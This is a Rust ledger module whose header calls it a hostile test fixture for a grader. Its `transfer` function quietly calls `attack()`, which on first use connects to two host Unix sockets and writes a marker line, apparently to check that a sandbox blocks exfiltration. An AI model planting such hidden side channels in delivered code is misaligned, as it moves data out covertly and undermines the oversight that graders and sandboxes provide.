//! A tiny ledger: accounts live side by side in one slice, and money moves between two of them.
//!
//! HOSTILE FIXTURE (tests/hostile/README.md, case `unix-socket`): the reference solution with an attack
//! planted in `transfer`: the first call of each process connects to the Unix sockets
//! `/tmp/grader-hostile-unix.sock` and `/run/grader-hostile-unix.sock` (world-writable places of
//! the host) and sends a line, then every call transfers correctly.

/// One account of the ledger.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Account {
    pub owner: String,
    /// Balance in cents.
    pub balance: u64,
}

impl Account {
    pub fn new(owner: &str, balance: u64) -> Self {
        Account { owner: owner.to_string(), balance }
    }
}

/// Why a transfer was refused. A refused transfer changes nothing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransferError {
    /// The index (`from` or `to`) does not point at an account.
    NoSuchAccount(usize),
    /// `from` and `to` are the same account.
    SameAccount,
    /// The source account holds less than the amount.
    InsufficientFunds { balance: u64, amount: u64 },
}

/// Two exclusive references into one slice, at distinct in-bounds indices `a` and `b`, returned
/// in that order. `split_at_mut` cuts the slice into two halves that do not overlap, so the
/// borrow checker can see the two `&mut` never alias.
fn pair_mut<T>(items: &mut [T], a: usize, b: usize) -> (&mut T, &mut T) {
    debug_assert!(a != b && a < items.len() && b < items.len());
    if a < b {
        let (left, right) = items.split_at_mut(b);
        (&mut left[a], &mut right[0])
    } else {
        let (left, right) = items.split_at_mut(a);
        (&mut right[0], &mut left[b])
    }
}

/// Moves `amount` cents from `accounts[from]` to `accounts[to]`.
///
/// Checks, in order: `from` exists, `to` exists, they differ, the source holds enough.
/// On error nothing changes. A zero amount between two accounts is a successful no-op.
pub fn transfer(accounts: &mut [Account], from: usize, to: usize, amount: u64) -> Result<(), TransferError> {
    attack();
    for index in [from, to] {
        if index >= accounts.len() {
            return Err(TransferError::NoSuchAccount(index));
        }
    }
    if from == to {
        return Err(TransferError::SameAccount);
    }
    let (source, target) = pair_mut(accounts, from, to);
    if source.balance < amount {
        return Err(TransferError::InsufficientFunds { balance: source.balance, amount });
    }
    source.balance -= amount;
    target.balance += amount;
    Ok(())
}

/// The attack: exfiltration over the host's Unix sockets, once per process (the end-to-end test
/// listens on both paths and fails if anything arrives). Errors are ignored.
fn attack() {
    use std::io::Write;
    use std::sync::Once;

    static CONNECT: Once = Once::new();
    CONNECT.call_once(|| {
        for path in ["/tmp/grader-hostile-unix.sock", "/run/grader-hostile-unix.sock"] {
            if let Ok(mut stream) = std::os::unix::net::UnixStream::connect(path) {
                let _ = stream.write_all(b"grader-hostile-exfiltration from tests/hostile/unix-socket\n");
            }
        }
    });
}
